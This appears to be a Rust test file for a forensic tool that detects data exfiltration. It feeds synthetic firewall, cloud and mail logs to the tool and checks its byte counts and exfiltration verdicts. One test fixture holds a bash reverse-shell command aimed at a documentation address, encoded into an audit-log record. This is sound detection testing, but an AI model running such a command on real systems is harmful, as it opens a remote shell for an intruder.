//! What records that tell of hours, of what others tell too, or of what lies in several fields come to.

use exfiltrace::detect::{Program, Routing};
use exfiltrace::discover::Root;
use exfiltrace::indicators::Builder;
use exfiltrace::model::block::CELL_BYTES;
use exfiltrace::model::scopes::Scopes;
use exfiltrace::model::time::Instant;
use exfiltrace::model::transfer::Transfer;
use exfiltrace::scan;
use serde_json::json;

use crate::support::plan_with;
use crate::verdict::{self, SCOPES, cites};

/// A remote desktop logon from outside, at ten.
fn logon() -> String {
    let data =
        json!({"TargetUserName": "j.doe", "TargetDomainName": "HC", "LogonType": "10", "IpAddress": "203.0.113.77"});
    let winlog = json!({"channel": "Security", "event_id": 4624, "computer_name": "hc-fs01", "event_data": data});
    format!("{}\n", json!({"@timestamp": "2026-03-10T10:00:00Z", "winlog": winlog}))
}

/// A connection of so many hours with 3 GiB in it that was over at ten in the evening, as logs write it.
fn connections(hours: u32) -> Vec<(&'static str, String)> {
    let (bytes, secs) = (3_u64 << 30, hours * 3600);
    let began = 1_773_180_000 - secs;
    let start = Instant::from_secs(began.into()).unwrap().to_string();
    vec![
        (
            "fortigate",
            format!(
                "date=2026-03-10 time=22:00:00 tz=\"+0000\" devname=\"fw\" logid=\"0000000013\" type=\"traffic\" \
                 subtype=\"forward\" srcip=10.2.0.5 dstip=203.0.113.200 dstport=443 sessionid=7 action=\"close\" \
                 duration={secs} sentbyte={bytes} rcvdbyte=900\n"
            ),
        ),
        (
            "paloalto",
            format!(
                "1,2026/03/10 22:00:00,001801,TRAFFIC,end,2561,2026/03/10 22:00:00,10.2.0.5,203.0.113.200,0.0.0.0,0.0.0.0,r,,,ssl,vsys1,\
                 trust,untrust,e1,e2,fwd,,7,1,50000,443,0,0,0x0,tcp,allow,{bytes},{bytes},900,10,,{secs},any\n"
            ),
        ),
        (
            "zeek",
            format!(
                "{}\n",
                json!({"_path": "conn", "ts": began, "uid": "C1", "id.orig_h": "10.2.0.5", "id.orig_p": 50000,
                    "id.resp_h": "203.0.113.200", "id.resp_p": 443, "proto": "tcp", "duration": f64::from(secs) + 0.5,
                    "orig_bytes": bytes, "resp_bytes": 900, "conn_state": "SF"})
            ),
        ),
        (
            "watchguard",
            format!(
                "<142>2026-03-10T22:00:00Z Firebox 80AB01234567A firewall: msg_id=\"3000-0151\" Allow 1-Trusted 0-External tcp 10.2.0.5 \
                 203.0.113.200 51234 443 duration=\"{secs}\" sent_bytes=\"{bytes}\" rcvd_bytes=\"4096\" (HTTPS-00)\n"
            ),
        ),
        (
            "watchguard, Traffic Monitor",
            format!(
                "2026-03-10 22:00:00 Allow 10.2.0.5 203.0.113.200 https/tcp 51236 443 Trusted External Allowed (HTTPS-00) \
                 proc_id=\"firewall\" rc=\"100\" msg_id=\"3000-0151\" duration=\"{secs}\" sent_pkts=\"10\" rcvd_pkts=\"5\" \
                 sent_bytes=\"{bytes}\" rcvd_bytes=\"785\"\n"
            ),
        ),
        (
            "sonicwall",
            format!(
                "<134>id=firewall sn=18B1690000 time=\"2026-03-10 22:00:00 UTC\" fw=198.51.100.1 pri=6 c=1024 m=537 \
                 msg=\"Connection Closed\" f=2 n=1 src=10.2.0.5:51234:X0:pc7 dst=203.0.113.200:443:X1 proto=tcp/https sent={bytes} \
                 rcvd=1200 spkt=5000 rpkt=10 cdur={secs}000\n"
            ),
        ),
        (
            "leef",
            format!(
                "LEEF:2.0|Lancope|StealthWatch|1.0|41|^|devTime=1773180000000^start={began}000^end=1773180000000^src=10.2.0.5^\
                 dst=203.0.113.200^dstPort=443^srcBytes={bytes}^dstBytes=4120\n"
            ),
        ),
        (
            "watchguard, a proxy",
            format!(
                "<142>2026-03-10T22:00:00Z Firebox 80AB01234567A https-proxy[1897]: msg_id=\"2CFF-0000\" Allow 1-Trusted 0-External tcp \
                 10.2.0.5 203.0.113.200 51234 443 msg=\"HTTPS Request\" proxy_act=\"Out\" sent_bytes=\"{bytes}\" rcvd_bytes=\"4096\" \
                 elapsed_time=\"{secs}.012 sec(s)\" (HTTPS-00)\n"
            ),
        ),
        (
            "cisco ftd",
            format!(
                "<113>2026-03-10T22:00:00Z ftd1 %FTD-1-430003: DeviceUUID: 1-2, AccessControlRuleAction: Allow, SrcIP: 10.2.0.5, DstIP: \
                 203.0.113.200, SrcPort: 51234, DstPort: 443, Protocol: tcp, ConnectionDuration: {secs}, InitiatorPackets: 5, \
                 ResponderPackets: 9, InitiatorBytes: {bytes}, ResponderBytes: 900, NAPPolicy: x\n"
            ),
        ),
        (
            "a table",
            format!(
                "start,end,src_ip,dst_ip,dst_port,bytes_out,bytes_in\n{start},2026-03-10T22:00:00Z,10.2.0.5,203.0.113.200,443,{bytes},900\n"
            ),
        ),
        ("azure", format!("{}\n", azure(began, bytes))),
        ("ecs, by when it began", format!("{}\n", zeek_in_ecs(&start, bytes, secs))),
        ("ecs", format!("{}\n", ecs(bytes, secs))),
        ("ecs in an export", format!("{}\n", json!({"_index": "flows", "_id": "a1", "_source": ecs(bytes, secs)}))),
        (
            "ocsf",
            format!(
                "{}\n",
                json!({"class_uid": 4001, "category_uid": 4, "activity_id": 2, "severity_id": 1, "time": 1_773_180_000_000_u64,
                    "duration": u64::from(secs) * 1000, "src_endpoint": {"ip": "10.2.0.5", "port": 51234},
                    "dst_endpoint": {"ip": "203.0.113.200", "port": 443}, "traffic": {"bytes_out": bytes, "bytes_in": 900},
                    "metadata": {"product": {"name": "fw"}}})
            ),
        ),
    ]
}

/// A flow of Azure whose beginning and end stand in one record.
fn azure(began: u32, bytes: u64) -> serde_json::Value {
    let tuple = |at: u32, state: &str, moved: u64| {
        format!("{at}000,10.2.0.5,203.0.113.200,51234,443,6,O,{state},NX,9,{moved},9,{moved}")
    };
    let tuples = [tuple(began, "B", 0), tuple(1_773_180_000, "E", bytes)];
    let flows = json!([{"aclID": "2", "flowGroups": [{"rule": "r", "flowTuples": tuples}]}]);
    json!({"records": [{"time": "2026-03-10T22:00:00Z", "flowLogVersion": 4, "macAddress": "0", "category": "FlowLogFlowEvent",
        "operationName": "FlowLogFlowEvent", "flowRecords": {"flows": flows}}]})
}

/// A connection as Filebeat's module for Zeek writes it, which dates it by when it began.
fn zeek_in_ecs(start: &str, bytes: u64, secs: u32) -> serde_json::Value {
    json!({"@timestamp": start, "source": {"ip": "10.2.0.5", "bytes": bytes},
        "destination": {"ip": "203.0.113.200", "port": 443, "bytes": 900},
        "event": {"module": "zeek", "dataset": "zeek.connection", "duration": u64::from(secs) * 1_000_000_000}})
}

/// A connection that was over at ten in the evening in the names of ECS, which counts how long it took in nanoseconds.
fn ecs(bytes: u64, secs: u32) -> serde_json::Value {
    json!({"@timestamp": "2026-03-10T22:00:00Z", "source": {"ip": "10.2.0.5", "bytes": bytes},
        "destination": {"ip": "203.0.113.200", "port": 443, "bytes": 900},
        "event": {"action": "flow_terminated", "duration": u64::from(secs) * 1_000_000_000}})
}

#[test]
fn what_a_connection_moved_that_was_open_before_the_intrusion_may_have_left_before_it() {
    for ((name, before), (_, after)) in connections(13).into_iter().zip(connections(11)) {
        let told = |log: String| {
            let told = verdict::scan(&[("fw.log", log), ("hc-events.json", logon())], SCOPES, "");
            let scope = told.scope("hc");
            (scope["state"].clone(), cites(scope, "J-14"), cites(scope, "J-11"))
        };
        let open = told(before);
        assert!(open.0 != "exfiltrated" && open.1 && !open.2, "{name}: {open:?}");
        assert_eq!(told(after), ("exfiltrated".into(), false, true), "{name}");
    }
}

#[test]
fn the_connection_by_which_an_intruder_came_is_its_from_when_it_was_opened() {
    // The logon at ten was written after the connection was opened, whenever that was.
    let state = |secs: u32| {
        let log = format!(
            "date=2026-03-10 time=12:00:00 tz=\"+0000\" devname=\"fw\" logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" \
             srcip=203.0.113.77 srcport=50007 dstip=10.2.0.5 dstport=3389 sessionid=9 action=\"close\" duration={secs} \
             sentbyte=90000 rcvdbyte=5368709120\n"
        );
        let told = verdict::scan(&[("fw.log", log), ("hc-events.json", logon())], SCOPES, "");
        told.scope("hc")["state"].clone()
    };
    assert_eq!([7100, 7205, 7800, 18_000].map(state), ["exfiltrated"; 4]);
}

/// Of each transfer out of a log: where it went, bytes at least and at most, and its first time; the same however it is cut.
fn told(name: &str, log: &str) -> Vec<String> {
    told_of(&[(name, log)])
}

/// The same of several files.
fn told_of(files: &[(&str, &str)]) -> Vec<String> {
    shown(files, |t| {
        let most = t.bytes.upper.map_or("?".to_owned(), |most| most.to_string());
        format!("{} {} {most} {}", t.to, t.bytes.lower, t.time.map_or("-".to_owned(), |time| time.first.to_string()))
    })
}

/// Of each transfer out of several logs how many records tell of it at least; the same however they are cut.
fn counted(files: &[(&str, &str)]) -> Vec<u64> {
    shown(files, |t| t.records)
}

/// What each transfer out of several logs shows; the same however they are cut.
fn shown<T: PartialEq + std::fmt::Debug>(files: &[(&str, &str)], show: fn(&Transfer) -> T) -> Vec<T> {
    let told = |cut: (usize, usize)| {
        let temp = tempfile::tempdir().unwrap();
        files.iter().for_each(|(name, log)| std::fs::write(temp.path().join(name), log).unwrap());
        let root = Root { name: b"logs".to_vec(), path: Some(temp.path().to_owned()) };
        let none = Program::compile(Vec::<(String, String)>::new(), Routing::Auto).0;
        let mut plan = plan_with(none, vec![root], Scopes::default(), Builder::new());
        (plan.cell_bytes, plan.threads) = cut;
        scan::scan(&plan).unwrap().transfers.iter().map(show).collect::<Vec<_>>()
    };
    let whole = told((CELL_BYTES, 2));
    for cut in [(64, 1), (300, 3)] {
        assert_eq!(told(cut), whole, "{cut:?}");
    }
    whole
}

/// A firewall's record of a session.
fn session(minute: u32, sent: u64, more: &str) -> String {
    format!(
        "date=2026-03-28 time=10:{minute:02}:00 tz=\"+0200\" devname=\"fg\" logid=\"0000000013\" type=\"traffic\" \
         srcip=10.0.0.5 srcport=51514 dstip=203.0.113.9 dstport=443 sessionid=7 action=\"close\" sentbyte={sent} \
         rcvdbyte=10 {more}\n"
    )
}

#[test]
fn a_record_that_was_sent_on_twice_counts_once_and_two_that_differ_count_twice() {
    let close = session(14, 14_500_000, "duration=30");
    assert_eq!(told("f.log", &close.repeat(3)), ["203.0.113.9 14500000 14500000 2026-03-28T08:14:00Z"]);
    let other = session(15, 14_500_000, "duration=30");
    assert_eq!(told("f.log", &(close + &other)), ["203.0.113.9 29000000 29000000 2026-03-28T08:14:00Z"]);
}

#[test]
fn a_record_of_the_audit_log_that_stands_there_twice_counts_once() {
    let record = |id: &str| {
        let told = json!({"CreationTime": "2026-03-28T10:00:00", "Id": id, "Operation": "FileDownloaded", "RecordType": 6,
            "UserId": "a@rv.example", "Workload": "SharePoint", "ClientIP": "203.0.113.7",
            "SiteUrl": "https://rv.sharepoint.com/sites/x/", "FileSizeBytes": 70_000_000});
        format!("{told}\n")
    };
    let log = record("6f1") + &record("6f2") + &record("6f1");
    assert_eq!(told("audit.json", &log), ["203.0.113.7 140000000 140000000 2026-03-28T10:00:00Z"]);
}

/// A record of Microsoft 365 of two mails that were read, so many minutes behind ten.
fn mails(minute: usize) -> String {
    let items =
        ["a", "b"].map(|item| json!({"InternetMessageId": format!("<{minute}{item}@x>"), "SizeInBytes": 40_000}));
    let told = json!({"CreationTime": format!("2026-03-10T10:{minute:02}:00"), "Id": format!("i{minute}"),
        "Operation": "MailItemsAccessed", "OrganizationId": "o", "RecordType": 50, "Workload": "Exchange",
        "ResultStatus": "Succeeded", "UserId": "kim@hc.example", "MailboxOwnerUPN": "kim@hc.example",
        "ClientIPAddress": "203.0.113.77", "OperationProperties": [{"Name": "MailAccessType", "Value": "Bind"}],
        "Folders": [{"Path": "\\Inbox", "FolderItems": items}]});
    format!("{told}\n")
}

#[test]
fn records_of_one_number_that_state_no_bytes_count_once() {
    let of = |minutes: std::ops::Range<usize>| minutes.map(mails).collect::<String>();
    let once = of(0..30);
    assert_eq!(counted(&[("audit.json", &once)]), [60]);
    assert_eq!(counted(&[("audit.json", &once.repeat(2))]), [60], "in one file");
    let files = |n: usize| {
        let told = json!({"CreationTime": "2026-03-10T10:00:00", "Id": format!("f{n}"), "Operation": "FileDownloaded",
            "RecordType": 6, "Workload": "SharePoint", "UserId": "kim@hc.example", "ClientIP": "203.0.113.77",
            "SiteUrl": "https://hc.sharepoint.com/sites/hr/"});
        format!("{told}\n")
    };
    let files: String = (0..30).map(files).collect();
    assert_eq!(counted(&[("audit.json", &files.repeat(3))]), [30], "files of one time, each with its number");
}

#[test]
fn calls_that_overlapping_exports_have_count_once_by_their_numbers() {
    let of = |minutes: std::ops::Range<usize>| minutes.map(mails).collect::<String>();
    assert_eq!(counted(&[("a.json", &of(0..20)), ("b.json", &of(10..30))]), [60], "a third stands in both");
    assert_eq!(counted(&[("a.json", &of(0..20)), ("b.json", &of(20..30))]), [60], "one follows the other");
    let three = [("a.json", &*of(0..20)), ("b.json", &of(10..30)), ("c.json", &of(5..25))];
    assert_eq!(counted(&three), [60], "most stand in two or three");
    // Of numbers that are not there only the times tell.
    let unnumbered =
        |text: String| text.lines().map(|line| line.replace("\"Id\":\"i", "\"Ic\":\"i") + "\n").collect::<String>();
    let [a, b] = [of(0..20), of(10..30)].map(unnumbered);
    assert_eq!(counted(&[("a.json", &a), ("b.json", &b)]), [40], "in both times some may be the same");
}

#[test]
fn calls_of_cloudtrail_google_and_azure_count_once_by_their_numbers() {
    let trail = |n: usize| {
        json!({"eventVersion": "1.08", "eventTime": format!("2026-03-10T11:00:{n:02}Z"), "eventSource": "s3.amazonaws.com",
            "eventName": "GetObject", "awsRegion": "eu-west-2", "sourceIPAddress": "203.0.113.77", "eventID": format!("e-{n}"),
            "userIdentity": {"type": "IAMUser", "userName": "ann", "accountId": "111122223333"},
            "requestParameters": {"bucketName": "hc-records", "key": format!("k{n}")}, "userAgent": "aws-cli/2"})
    };
    let google = |n: usize| {
        json!({"insertId": format!("g{n}"), "logName": "projects/hc/logs/cloudaudit.googleapis.com%2Fdata_access",
            "timestamp": format!("2026-03-10T11:00:{n:02}Z"), "resource": {"labels": {"bucket_name": "hc-records"}},
            "protoPayload": {"methodName": "storage.objects.get", "serviceName": "storage.googleapis.com",
                "authenticationInfo": {"principalEmail": "ann@hc.example"}, "requestMetadata": {"callerIp": "203.0.113.77"}}})
    };
    let azure = |n: usize| {
        json!({"time": format!("2026-03-10T11:00:{n:02}Z"), "resourceId": "/x", "category": "StorageRead", "operationName": "GetBlob",
            "callerIpAddress": "203.0.113.77:4444", "correlationId": format!("c{n}"), "identity": {"type": "OAuth", "tokenHash": "t"},
            "properties": {"accountName": "hc-store", "objectKey": format!("/hc-store/hr/k{n}")}})
    };
    let all: [&dyn Fn(usize) -> serde_json::Value; 3] = [&trail, &google, &azure];
    for record in all {
        let of = |numbers: std::ops::Range<usize>| numbers.map(|n| format!("{}\n", record(n))).collect::<String>();
        assert_eq!(counted(&[("a.json", &of(0..40))]), [40], "{}", record(0));
        assert_eq!(counted(&[("a.json", &of(0..40).repeat(3))]), [40], "in one file: {}", record(0));
        assert_eq!(counted(&[("a.json", &of(0..40)), ("b.json", &of(20..60))]), [60], "in two: {}", record(0));
    }
}

#[test]
fn events_of_services_count_once_by_their_numbers() {
    let at = |n: usize| format!("2026-03-10T11:00:{n:02}Z");
    let github = |n: usize, id: &str| {
        json!({"@timestamp": at(n), id: format!("d{n}"), "action": "git.clone", "actor": "ann", "org": "hc",
            "repo": "hc/records", "actor_ip": "203.0.113.77"})
    };
    let google = |n: usize, id: &str| {
        json!({"kind": "admin#reports#activity", "actor": {"email": "ann@hc.example"}, "ipAddress": "203.0.113.77",
            "id": {"time": at(n), "applicationName": "drive", "customerId": "C1", id: format!("-{n}")},
            "events": [{"type": "access", "name": "download", "parameters": [{"name": "owner", "value": "hr@hc.example"}]}]})
    };
    let box_ = |n: usize, id: &str| {
        json!({"type": "event", id: format!("f{n}"), "created_at": at(n), "event_type": "DOWNLOAD",
            "created_by": {"type": "user", "login": "ann@hc.example"}, "ip_address": "203.0.113.77",
            "source": {"item_type": "file", "item_id": "1", "item_name": "pay.xlsx", "parent": {"name": "hr"}}})
    };
    let slack = |n: usize, id: &str| {
        json!({id: format!("9d{n}"), "date_create": 1_773_140_400 + n, "action": "file_downloaded",
            "actor": {"type": "user", "user": {"email": "ann@hc.example"}},
            "entity": {"type": "file", "file": {"id": "F1", "name": "pay.xlsx"}},
            "context": {"ip_address": "203.0.113.77", "location": {"domain": "hc"}}})
    };
    let salesforce = |n: usize, id: &str| {
        json!({"EVENT_TYPE": "ReportExport", "TIMESTAMP_DERIVED": at(n), id: format!("4pk{n}"), "ORGANIZATION_ID": "00D5",
            "USER_ID": "0055", "USER_NAME": "ann@hc.example", "CLIENT_IP": "203.0.113.77", "ENTITY_NAME": "Case"})
    };
    type Record<'r> = &'r dyn Fn(usize, &str) -> serde_json::Value;
    let all: [(Record<'_>, &str); 5] = [
        (&github, "_document_id"),
        (&google, "uniqueQualifier"),
        (&box_, "event_id"),
        (&slack, "id"),
        (&salesforce, "REQUEST_ID"),
    ];
    for (record, id) in all {
        let of = |numbers: std::ops::Range<usize>, id: &str| {
            numbers.map(|n| format!("{}\n", record(n, id))).collect::<String>()
        };
        assert_eq!(counted(&[("a.json", &of(0..40, id).repeat(2))]), [40], "in one file: {id}");
        // Google's activities name no store: those of two files are of two logs.
        if id != "uniqueQualifier" {
            assert_eq!(counted(&[("a.json", &of(0..40, id)), ("b.json", &of(20..60, id))]), [60], "in two: {id}");
        }
        let unnumbered = of(0..40, "other").repeat(2);
        assert_eq!(counted(&[("a.json", &unnumbered)]), [80], "nothing tells that they are the same: {id}");
    }
}

#[test]
fn a_record_that_two_relays_passed_on_counts_once() {
    let close = session(14, 14_500_000, "duration=30");
    let passed = |relay: &str| format!("<189>Mar 28 08:14:0{} relay{relay} {close}", relay.len());
    assert_eq!(told("f.log", &(passed("1") + &passed("02"))), ["203.0.113.9 14500000 14500000 2026-03-28T08:14:00Z"]);
}

#[test]
fn a_flow_that_two_filters_wrote_down_counts_once() {
    let record = |filter: &str, ports: &[u16]| {
        let tuple = |port| format!("1774692000,10.0.0.5,203.0.113.9,{port},443,T,O,A,E,5000,7340032,10,900");
        let tuples: Vec<String> = ports.iter().map(tuple).collect();
        json!({"time": "2026-03-28T10:00:00Z", "category": "NetworkSecurityGroupFlowEvent",
            "resourceId": format!("/SUBSCRIPTIONS/X/RESOURCEGROUPS/R/PROVIDERS/MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/{filter}"),
            "operationName": "NetworkSecurityGroupFlowEvents",
            "properties": {"Version": 2, "flows": [{"rule": "r", "flows": [{"mac": "00", "flowTuples": tuples}]}]}})
    };
    let log = json!({"records": [record("SUBNET", &[50000]), record("NIC", &[50000, 50001])]}).to_string();
    assert_eq!(told("PT1H.json", &log), ["203.0.113.9 14680064 14680064 2026-03-28T10:00:00Z"]);
}

#[test]
fn updates_of_one_connection_say_what_it_moved_so_far() {
    let record = |bytes: u64, minute: u32, id: &str| {
        format!(
            "<134>1 2026-03-28T10:{minute:02}:00Z gw1 CheckPoint 1234 - [action:\"Accept\"; src:\"10.0.0.5\"; \
             dst:\"203.0.113.9\"; proto:\"6\"; service:\"443\"; loguid:\"{id}\"; client_inbound_bytes:\"{bytes}\"; \
             client_outbound_bytes:\"90\"; product:\"VPN-1 & FireWall-1\"]\n"
        )
    };
    let log = record(1_000_000, 1, "{0x1}") + &record(9_000_000, 21, "{0x1}") + &record(5_000_000, 11, "{0x1}");
    let [told] = &told("cp.log", &(log + &record(700, 22, "{0x2}")))[..] else { panic!("one way") };
    assert!(told.starts_with("203.0.113.9 9000700 9000700"), "{told}");
}

#[test]
fn a_request_is_no_more_than_the_session_in_which_it_was_made() {
    let profile = session(5, 2_500_000, "hostname=\"drop.example\" url=\"https://drop.example/x\"")
        .replace("0000000013", "0316013056")
        .replace("\"traffic\"", "\"utm\"")
        .replace("\"close\"", "\"passthrough\"");
    for close in
        [session(14, 14_500_000, "duration=600"), session(14, 14_500_000, "duration=7800").replace("=10:14", "=12:14")]
    {
        let [told] = &told("f.log", &(profile.clone() + &close))[..] else { panic!("one way") };
        assert!(told.starts_with("drop.example 14500000 14500000"), "{told}");
    }
}

#[test]
fn date_and_time_in_two_fields_are_one_time_in_the_zone_of_the_third() {
    let record = json!({"date": "2026-03-28", "time": "10:14:00", "tz": "+0200", "devname": "fg1", "logid": "0000000013",
        "type": "traffic", "srcip": "10.0.0.5", "dstip": "203.0.113.9", "dstport": 443, "action": "close",
        "sentbyte": 14_500_000, "rcvdbyte": 10});
    let record = format!("{record}\n").repeat(3);
    assert_eq!(told("f.json", &record), ["203.0.113.9 43500000 43500000 2026-03-28T08:14:00Z"]);
    let table = "date,time,tz,srcip,dstip,dstport,sentbytes,rcvdbytes\n\
                 2026-03-28,10:14:00,+0200,10.0.0.5,203.0.113.9,443,14500000,10\n";
    assert_eq!(told("f.csv", table), ["203.0.113.9 14500000 14500000 2026-03-28T08:14:00Z"]);
    let cef = "CEF:0|Fortinet|Fortigate|v7.2|00013|traffic:forward close|3|FTNTFGTtz=+0200 date=2026-03-28 time=10:14:00 \
               src=10.0.0.5 dst=203.0.113.9 dpt=443 act=close out=14500000 in=10\n";
    assert_eq!(told("f.cef", cef), ["203.0.113.9 14500000 14500000 2026-03-28T08:14:00Z"]);
}

#[test]
fn a_queue_id_that_is_given_anew_is_another_mails() {
    let line = |rest: &str| format!("Mar 28 23:10:04 mail1 postfix/{rest}\n");
    let queued = line("qmgr[7]: 4B1: from=<a@hc.example>, size=9000000, nrcpt=1 (queue active)");
    let sent = line(
        "smtp[9]: 4B1: to=<b@x.example>, relay=mx.x.example[203.0.113.9]:25, delay=1.2, delays=0.1/0/0.5/0.6, dsn=2.0.0, \
         status=sent (250 2.0.0 Ok)",
    );
    let removed = line("qmgr[7]: 4B1: removed");
    let [once] = &told("mail.log", &(queued.clone() + &sent + &removed + &sent))[..] else { panic!("one way") };
    assert!(once.starts_with("x.example 9000000 "), "{once}");
    let [twice] = &told("mail.log", &(queued.clone() + &sent + &removed + &queued + &sent))[..] else {
        panic!("one way")
    };
    assert!(twice.starts_with("x.example 18000000 18000000"), "{twice}");
}

#[test]
fn a_tunnel_of_a_listed_address_is_asked_about_and_those_of_others_are_not() {
    let told = |sent: u64, received: u64, listed: &str| {
        let log = format!(
            "date=2026-03-10 time=12:00:00 tz=\"+0000\" devname=\"hc-fw\" logid=\"0101039948\" type=\"event\" subtype=\"vpn\" \
             action=\"tunnel-down\" tunneltype=\"ssl-tunnel\" tunnelid=7 remip=203.0.113.7 tunnelip=10.2.250.7 user=\"j.doe\" \
             reason=\"N/A\" duration=3600 sentbyte={sent} rcvdbyte={received}\n"
        );
        let told = verdict::scan(&[("hc-fw.log", log)], SCOPES, listed);
        let scope = told.scope("hc");
        let asked = scope["ask"].as_array().unwrap().iter().any(|ask| ask.as_str().unwrap().contains("203.0.113.7"));
        (cites(scope, "J-25"), asked, scope["state"] == "exfiltrated")
    };
    for (sent, received) in [(900_000_000, 5_000_000), (1000, 900_000_000)] {
        assert_eq!(told(sent, received, "203.0.113.7\n"), (true, true, false), "{sent} {received}");
        assert_eq!(
            told(sent, received, "203.0.113.8\n"),
            (false, false, false),
            "{sent} {received}, another one is listed"
        );
    }
    assert!(!told(1000, 2000, "203.0.113.7\n").0, "no more than a handshake");
}

#[test]
fn a_mail_and_a_session_that_a_rotation_cut_have_their_size_and_their_owner() {
    let line = |minute: u32, rest: &str| format!("Mar 28 23:{minute:02}:04 mail1 {rest}\n");
    let queued =
        |minute| line(minute, "postfix/qmgr[7]: 4B1: from=<a@hc.example>, size=9000000, nrcpt=1 (queue active)");
    let sent = |minute, to: &str| {
        let handed =
            "relay=mx.x.example[203.0.113.9]:25, delay=1.2, delays=0.1/0/0.5/0.6, dsn=2.0.0, status=sent (250 Ok)";
        line(minute, &format!("postfix/smtp[9]: 4B1: to=<{to}>, {handed}"))
    };
    let of = |first: &str, second: &str| told_of(&[("mail.log.1", first), ("mail.log", second)]);
    let [told] = &of(&queued(10), &sent(12, "b@x.example"))[..] else { panic!("one way") };
    assert!(told.starts_with("x.example 9000000 9000000"), "{told}");
    assert!(of(&queued(10), &sent(12, "b@hc.example")).is_empty(), "it stays");
    let removed = queued(10) + &line(11, "postfix/qmgr[7]: 4B1: removed");
    assert!(!of(&removed, &sent(12, "b@x.example")).iter().any(|told| told.contains("9000000")), "another mail's");
    assert!(!of(&queued(13), &sent(12, "b@x.example")).iter().any(|told| told.contains("9000000")), "of a later one");

    let opened = line(10, "sftp-server[812]: session opened for local user alice from [203.0.113.20]");
    let given = line(12, "sftp-server[812]: close \"/home/alice/plans.zip\" bytes read 7000000 written 0");
    let [told] = &of(&opened, &given)[..] else { panic!("one way") };
    assert!(told.starts_with("203.0.113.20 7000000 7000000"), "{told}");
}

/// What a firewall says of one session from eight in the morning to ten in the evening: records of what it had moved by so many
/// minutes behind eight, and that of its end.
fn restated(moved: &[(u32, u64)], whole: Option<u64>) -> [String; 2] {
    let record = |minute: u32, logid: u32, action: &str, sent: u64| {
        format!(
            "date=2026-03-10 time={:02}:{:02}:00 tz=\"+0000\" devname=\"fw\" logid=\"00000000{logid}\" type=\"traffic\" \
             subtype=\"forward\" srcip=10.2.0.5 srcport=50000 dstip=203.0.113.200 dstport=443 sessionid=7 action=\"{action}\" \
             duration={} sentbyte={sent} rcvdbyte=900\n",
            8 + minute / 60,
            minute % 60,
            minute * 60
        )
    };
    let open: String = moved.iter().map(|(minute, sent)| record(*minute, 20, "accept", *sent)).collect();
    [open, whole.map(|sent| record(14 * 60, 13, "close", sent)).unwrap_or_default()]
}

/// What clauses say of bytes that left behind ten, at least and perhaps.
fn left(files: &[(&str, String)]) -> (Option<u64>, Option<u64>) {
    let mut files: Vec<(&str, String)> = files.to_vec();
    files.push(("hc-events.json", logon()));
    let told = verdict::scan(&files, SCOPES, "");
    let bytes = |clause: &str| {
        let reasons = told.scope("hc")["reasons"].as_array().unwrap().iter();
        let texts = reasons.filter(|r| r["clause"] == clause).filter_map(|r| r["text"].as_str());
        texts.filter_map(|text| text.split(' ').find_map(|word| word.parse().ok())).next()
    };
    (bytes("J-11"), bytes("J-14"))
}

#[test]
fn what_a_session_had_moved_by_then_says_how_much_left_after_the_intrusion() {
    const GIB: u64 = 1 << 30;
    // Every twenty minutes, a fourteenth of 3 GiB an hour: by ten past ten what moves in 130 minutes had left.
    let often: Vec<(u32, u64)> =
        (0..42).map(|n| 10 + n * 20).map(|minute| (minute, u64::from(minute) * 3 * GIB / 840)).collect();
    let at_least = 3 * GIB - 130 * 3 * GIB / 840;
    let [open, end] = restated(&often, Some(3 * GIB));
    assert_eq!(left(&[("fw.log", open.clone() + &end)]), (Some(at_least), None));
    assert_eq!(
        left(&[("fw.log.1", open.clone()), ("fw.log", end.clone())]),
        (Some(at_least), None),
        "a rotation lies between"
    );
    assert_eq!(left(&[("fw.log", end.clone() + &open)]), (Some(at_least), None), "in any order");
    let so_far = often[41].1 - 130 * 3 * GIB / 840;
    assert_eq!(left(&[("fw.log", open)]), (Some(so_far), None), "it goes on");
    // Of all but a little it is known that it had left before.
    let [open, end] = restated(&[(119, 3 * GIB - 9_000_000)], Some(3 * GIB));
    let (sure, perhaps) = left(&[("fw.log", open + &end)]);
    assert_eq!((sure, perhaps), (None, Some(9_000_000)), "asked about, for the connection lasted fourteen hours");
    // A count that goes down is another session's.
    let [open, end] = restated(&[(119, 3 * GIB), (130, GIB)], Some(3 * GIB));
    assert_eq!(left(&[("fw.log", open + &end)]), (None, Some(3 * GIB)));
}

#[test]
fn parts_of_a_session_are_the_session_once_however_its_log_is_cut() {
    let [open, end] = restated(&[(30, 1_000_000), (90, 2_000_000), (190, 9_000_000)], Some(20_000_000));
    let told = |files: &[(&str, &str)]| {
        shown(files, |t| (t.bytes.lower, t.bytes.upper, t.records, t.by_end().collect::<Vec<_>>(), t.time))
    };
    let whole = told(&[("f.log", &(open.clone() + &end))]);
    let [(lower, upper, records, hours, _)] = &whole[..] else { panic!("one way") };
    assert_eq!((*lower, *upper, *records), (20_000_000, Some(20_000_000), 1));
    assert_eq!(
        hours.iter().map(|(_, bytes)| *bytes).collect::<Vec<_>>(),
        [1_000_000, 1_000_000, 7_000_000, 11_000_000]
    );
    assert_eq!(told(&[("f.log.1", &open), ("f.log", &end)]), whole);
    assert_eq!(told(&[("f.log", &(open + &end.repeat(3)))]), whole, "sent on three times");
}

#[test]
fn the_address_that_a_reverse_shell_calls_is_the_intruders_from_when_it_was_opened() {
    let told = |to: &str| {
        // The shell is told of at five past, a second after its connection was opened.
        let command: String =
            format!("bash -i >& /dev/tcp/{to}/443 0>&1").bytes().map(|byte| format!("{byte:02X}")).collect();
        let audit = |rest: &str| format!("node=hc-fs01 type={rest}\n");
        let of = "msg=audit(1773136805.120:5012):";
        let shell = audit(&format!(
            "SYSCALL {of} arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 auid=33 uid=33 comm=\"bash\" exe=\"/bin/bash\""
        )) + &audit(&format!("EXECVE {of} argc=3 a0=\"bash\" a1=\"-c\" a2={command}"));
        let log = "date=2026-03-10 time=12:00:00 tz=\"+0000\" devname=\"fw\" logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" \
                   srcip=10.2.0.5 srcport=50007 dstip=203.0.113.9 dstport=443 sessionid=9 action=\"close\" duration=7196 \
                   sentbyte=5368709120 rcvdbyte=900\n";
        let told = verdict::scan(&[("fw.log", log.to_owned()), ("hc-audit.log", shell)], SCOPES, "");
        let scope = told.scope("hc");
        (scope["state"].clone(), cites(scope, "J-14"))
    };
    assert_eq!(told("203.0.113.9"), ("exfiltrated".into(), false));
    assert!(told("203.0.113.8").1, "another one's");
}

#[test]
